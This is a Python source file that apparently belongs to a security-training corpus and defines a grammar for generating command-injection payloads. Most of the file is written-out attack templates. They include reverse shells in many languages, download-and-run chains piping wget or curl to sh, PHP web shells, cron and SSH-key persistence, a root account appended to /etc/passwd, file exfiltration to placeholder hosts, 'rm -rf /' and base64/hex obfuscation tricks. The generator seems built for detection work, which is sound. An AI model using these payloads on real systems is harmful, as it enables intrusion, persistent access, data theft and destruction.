"""What command injection grammars share: commands, probes, downloads, shells that call back."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks import shell_disguise as disguise
from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS
from securitai.train.corpora.attacks.style import percent


def shell_encode(rng: Random, text: str) -> str:
    """Leave most payloads alone; encode some for a URL."""
    roll = rng.random()
    if roll < 0.92:
        return text
    if roll < 0.95:
        return text.replace(" ", "%20")
    if roll < 0.97:
        return text.replace(" ", "+")
    return percent(text) if roll < 0.99 else percent(percent(text))


SHELL = Grammar(
    r"""
run:
  8×‹ucmd›
  2×‹upath›
  2×‹nospace›
  ‹quoted›
  ‹globbed›
  ‹braces›
  ‹piped›
  ‹piped›
  ‹probe›
  ‹download›
  ‹reverse›
upath:
  /bin/‹ls -l¦cat /etc/passwd¦id¦sh¦bash -c id¦sleep 5¦uname -a¦ps¦ls -al¦nc¦busybox wget¦rm -rf›
  /usr/bin/‹id¦whoami¦env¦wget¦curl¦python3 -c 1¦perl -e 1¦who¦nc¦head /etc/passwd›
  /sbin/‹ifconfig¦reboot¦iptables -F¦shutdown›
  /bin/sleep ‹#1-40›
  /usr/bin/id
  ../../bin/‹ls¦id¦cat›
  busybox ‹wget¦nc¦sh¦telnetd -l/bin/sh -p ›‹n›
piped:
  ‹ucmd›|‹base64¦sh¦bash¦md5sum¦nc ¦xxd¦rev¦tee /tmp/x¦grep root¦wc -c¦head -1¦tr a b›
  echo ‹cmd64›|base64 -d|‹sh¦bash›
  echo "‹cmd64›" | base64 ‹-d¦--decode¦-D› | ‹sh¦bash¦/bin/sh›
  bash<<<$(base64 -d<<<‹cmd64›)
  bash -c {echo,‹cmd64›}|{base64,-d}|{bash,-i}
  sh -c "‹ucmd›"
  bash -c '‹ucmd›'
  bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  eval $(echo ‹cmd64›|base64 -d)
  echo -e "‹hexcmd›"|sh
  $(printf '‹hexcmd›')
  printf '‹hexcmd›'|bash
  $'‹hexcmd›'
  `echo -e "‹hexcmd›"`
  echo '‹revcmd›'|rev|sh
  rev<<<'‹revcmd›'|bash
  $(rev<<<'‹revcmd›')
  xxd -r -p<<<‹hexrun›|sh
  ‹slice›
  ‹arith›
  a=‹c›;b=‹c›;$a$b
  x='‹ucmd›';$x
  x=$'‹ucmd0›'&&$x
  who$@ami
  w`u`h`u`o`u`a`u`m`u`i
  wh$(echo oa)mi
  i$()d
  /bi''n/ca''t /et''c/pass''wd
  cat $(echo . | tr '!-0' '"-1')etc$(echo . | tr '!-0' '"-1')passwd
  tr a-z A-Z<<<id
  IFS=,;`cat<<<‹cmdcommas›`
  {‹ucmd0›}
  . /tmp/‹rnd›
  source /dev/stdin<<<"‹ucmd›"
  exec ‹ucmd›
  nohup ‹ucmd› &
  timeout ‹#1-30› ‹ucmd›
  xargs ‹ucmd0›
  awk 'BEGIN{system("‹ucmd0›")}'
  find . -exec ‹ucmd0› \;
  perl -e 'system("‹ucmd0›")'
  python -c "import os;os.system('‹ucmd0›')"
  php -r 'system("‹ucmd0›");'
  ruby -e '`‹ucmd0›`'
  env x=1 ‹ucmd0›
  sed -n 1p ‹u_file›
  read x<‹u_file›;echo $x
  while read l;do echo $l;done<‹u_file›
  mail ‹mail›<‹u_file›
  tar cf - ‹u_file›
  openssl enc -base64 -in ‹u_file›
  dd if=‹u_file›
  ssh -o ProxyCommand=";‹ucmd›" x
  git -c core.sshCommand="‹ucmd0›" fetch
cmdcommas = cat,/etc/passwd¦ls,-la¦uname,-a¦wget,evil.com
probe:
  echo ‹x=AZ6›$((‹#10-99›+‹#10-99›))$(echo ‹$x›)‹$x›
  echo%20‹x=AZ6›$((‹#10-99›%2B‹#10-99›))$(echo%20‹$x›)‹$x›
  echo$IFS‹x=AZ6›$((‹#1-99›+‹#1-99›))$(echo$IFS‹$x›)‹$x›
  expr ‹#100000000-999999999› + ‹#100000000-999999999›
  echo $(expr ‹#10000-99999› \* ‹#10000-99999›)
  echo ‹rnd›|md5sum
  echo ‹rnd›|rev
  printf "‹rnd›%s" ‹rnd›
  set /A ‹#1000-9999›*‹#1000-9999›
  print(`echo ‹AZ6›`.`echo $((‹#10-99›+‹#10-99›))`)
  [ ‹d1› -ne $(echo ‹AZ6›|tr -d '\n'|wc -c) ] || sleep ‹d1›
  sleep 0 && str=$(echo ‹AZ6›) && str1=${#str} && [ ‹d1› -eq ${str1} ] && sleep ‹d1›
  sleep $(echo ‹AZ6›|wc -c)
  python -c 'print(‹n›*‹n›)'
  ping -c ‹#1-20› 127.0.0.1
  sleep ‹#1-30›
  sleep ‹#1-30› #
  timeout ‹#1-30›
  ping -w ‹#1-30› -n ‹#1-30› ‹ip›
  if [ $(‹ucmd0›|cut -c ‹d1›) == ‹c› ]; then sleep ‹d1›; fi
  for i in $(ls /);do host "$i.‹host›";done
  `nslookup ‹host›`
  curl `‹ucmd0›`.‹host›
  nslookup $(‹ucmd0›).‹host›
  nslookup -q=cname ‹host›||curl ‹host›
  ping `‹ucmd0›`.‹host›
  curl --post-file ‹u_file› ‹host›
  wget --post-file ‹u_file› ‹host›
  curl -F "f=@‹u_file›" ‹url›
  curl -X POST -d @‹u_file› http://‹host›
  id >/dev/udp/‹ip›/53
twoword:
  cat ‹u_file›
  ls ‹-la /etc¦-lR /var/www¦-al /root¦/etc/ssh›
  whoami
  uname -a
  wget ‹url›
  curl ‹url›
  nslookup ‹host›
  ping -c ‹#1-30› ‹host›
  rm -rf ‹/¦*¦/tmp/x¦/var/www/html›
  chmod 777 /tmp/‹rnd›
  id;‹ucmd0›
  ifconfig -a
  netstat -an
  ps aux
  nc ‹ip› ‹port›
  find / -name ‹*.conf¦id_rsa¦wp-config.php¦.env¦*.pem›
  cp ‹u_file› /var/www/html/‹rnd›.txt
  mv /tmp/‹rnd› /etc/cron.d/‹az›
  chown root /tmp/‹rnd›
  kill -9 ‹n›
  shutdown -h now
  sleep ‹#5-30›
  touch /tmp/‹rnd›
  which ‹wget¦gcc¦nc¦python›
  net user ‹syl› ‹Az› /add
  type c:\‹w_file›
  ipconfig /all
  dir c:\
tmp = /tmp¦/var/tmp¦/dev/shm¦/var/run¦/mnt¦/root¦/
download:
  4×‹wget¦curl -O¦curl -sO¦tftp -g -r x¦busybox wget› http://‹hostport›/‹shfile›‹then›
  2×cd ‹tmp›;wget http://‹hostport›/‹x=shfile›;chmod 777 ‹$x›;sh ‹$x›
  cd ‹tmp›;rm -rf *;wget http://‹hostport›/‹x=shfile›;chmod +x ‹$x›;./‹$x› ‹az›
  cd ‹tmp› || cd ‹tmp›; wget http://‹ip›/‹x=shfile›; curl -O http://‹ip›/‹$x›; chmod 777 ‹$x›; sh ‹$x›; rm -rf ‹$x›
  cd+‹tmp›;rm+-rf+*;wget+http://‹ip›/‹x=shfile›;chmod+777+‹$x›;‹tmp›/‹$x›+‹az›
  2×curl ‹-s ¦-fsSL ¦›http://‹hostport›/‹path1›|‹sh¦bash›
  wget -qO- http://‹hostport›/‹path1›|‹sh¦bash›
  (curl -fsSL ‹url›||wget -q -O- ‹url›)|sh
  bash <(curl -s ‹url›)
  wget -O /tmp/‹x=rnd› ‹url›;chmod 777 /tmp/‹$x›;/tmp/‹$x›
  tftp -g -r ‹x=shfile› ‹ip›;sh ‹$x›
  ftpget -v -u anonymous -P 21 ‹ip› ‹x=shfile› ‹$x›
  wget${IFS}http://‹ip›/‹x=shfile›${IFS}-O-|sh
  wget%20-P%20/tmp/%20‹host›
  fetch ‹url›
  lwp-download ‹url›
  echo '<?php ‹phpc›?>' > /var/www/html/‹rnd›.php
  echo "<?php ‹phpc›;unlink(__FILE__);?>" >> ‹rnd›.php
  echo ‹b64›|base64 -d>/var/www/html/‹rnd›.php
  echo ssh-rsa AAAA‹b64› >> ~/.ssh/authorized_keys
  echo '* * * * * root curl ‹url›|sh' > /etc/cron.d/‹az›
  (crontab -l;echo "*/5 * * * * curl ‹url›|bash")|crontab -
  echo '‹syl›:x:0:0::/root:/bin/bash' >> /etc/passwd
phpc = system($_GET[0]);¦eval($_POST[1]);¦phpinfo();¦echo md5(1);¦@passthru($_REQUEST[c]);
then:
  3×‹e›
  ;sh ‹shfile›
  -O /tmp/‹rnd›;sh /tmp/‹rnd›
  |sh
  ;chmod 777 *;./‹az›
  &&bash ‹shfile›
reverse:
  bash -i >& /dev/tcp/‹ip›/‹port› 0>&1
  /bin/bash -c 'bash -i >& /dev/tcp/‹ip›/‹port› 0>&1'
  bash -c "sh -i >& /dev/udp/‹ip›/‹port› 0>&1"
  0<&‹n=n›;exec ‹$n›<>/dev/tcp/‹ip›/‹port›; sh <&‹$n› >&‹$n› 2>&‹$n›
  exec 5<>/dev/tcp/‹ip›/‹port›;cat <&5|while read l;do $l 2>&5 >&5;done
  nc -e /bin/‹sh¦bash› ‹host› ‹port›
  nc ‹host› ‹port› -e ‹/bin/sh¦cmd.exe¦/bin/bash›
  nc -lvvp ‹port› -e /bin/sh
  nc -lvp ‹port›
  ncat ‹host› ‹port› -e /bin/bash --ssl
  rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹host› ‹port› >/tmp/f
  mknod /tmp/‹x=az› p;/bin/sh 0</tmp/‹$x›|nc ‹host› ‹port› 1>/tmp/‹$x›
  telnet ‹host› ‹port›|/bin/bash|telnet ‹host› ‹#1025-65000›
  socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:‹host›:‹port›
  openssl s_client -quiet -connect ‹host›:‹port›|/bin/sh
  python‹¦3¦2› -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("‹ip›",‹port›));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'
  python3 -c "import os,pty,socket as s;c=s.create_connection(('‹host›',‹port›));[os.dup2(c.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/bash')"
  perl -e 'use Socket;$i="‹ip›";$p=‹port›;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};'
  perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"‹host›:‹port›");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
  php -r '$s=fsockopen("‹host›",‹port›);exec("/bin/sh -i <&3 >&3 2>&3");'
  ruby -rsocket -e 'f=TCPSocket.open("‹host›",‹port›).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
  lua -e "require('socket');t=socket.tcp();t:connect('‹host›','‹port›');os.execute('/bin/sh -i <&3 >&3 2>&3');"
  node -e "require('child_process').exec('nc -e /bin/sh ‹host› ‹port›')"
  awk 'BEGIN{s="/inet/tcp/0/‹host›/‹port›";while(1){printf ">" |& s;s |& getline c;while((c |& getline)>0)print |& s;close(c)}}'
  gawk 'BEGIN{s="/inet/tcp/0/‹host›/‹port›";print "id"|&s}'
  r = Runtime.getRuntime();p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/‹host›/‹port›;cat <&5"] as String[]);p.waitFor()
  xterm -display ‹ip›:1
  powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('‹host›',‹port›);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);iex $d}"
  powershell IEX (New-Object Net.WebClient).DownloadString('http://‹host›/‹az›.ps1')
  golang: net.Dial("tcp","‹host›:‹port›");exec.Command("/bin/sh")
sepu:
  6×;
  4×|
  3×||
  3×&&
  2×&
  2×‹nl›
  %0a
  %0d%0a
  ‹crlf›
  ;;
  |&
  ‹sp›;‹sp›
  ‹sp›|‹sp›
  ‹sp›&&‹sp›
  ‹sp›||‹sp›
  ‹sp›&‹sp›
  ';
  ";
  '|
  "|
  '&&
  "&&
  '||
  );
  a);
  ‹nul›;
  %00;
  `;
  \n
  %3B
  %7C
  %26
  %26%26
  ;${IFS}
  }
  ‹tab›;‹tab›
  > /dev/null;‹sp›
  2>&1;
  *;‹sp›
  &&%09
  -1;
closeu:
  10×‹e›
  3×;
  2×‹sp›#
  |
  ||
  &
  '
  "
  ;'
  ;"
  ;#
  &&
  ||'
  %00
  ‹nl›
  )
  ‹sp›;‹sp›
  ‹sp›|‹sp›
  ‹sp›&‹sp›
  2>&1
  >/dev/null 2>&1
  ;echo
  \\
  //
  |#
  ;exit
  ‹sp›2>/dev/null
hostpre:
  8×‹pre›
  127.0.0.1
  8.8.8.8
  localhost
  ‹ip›
  ‹site›
  ‹word›.‹txt¦jpg¦html¦pdf›
  eth0
  ‹az›
""",
    PARTS,
    {
        "quoted": disguise.quoted_letters,
        "globbed": disguise.globbed,
        "caret": disguise.caret,
        "slice": disguise.sliced,
        "winslice": disguise.win_sliced,
        "arith": disguise.arithmetic,
        "cmd64": disguise.base64_command,
        "ps64": disguise.powershell64,
        "hexcmd": disguise.hex_command,
        "braces": disguise.braces,
        "nospace": disguise.no_spaces,
        "revcmd": disguise.reversed_command,
        "enc": disguise.spelled,
    },
)
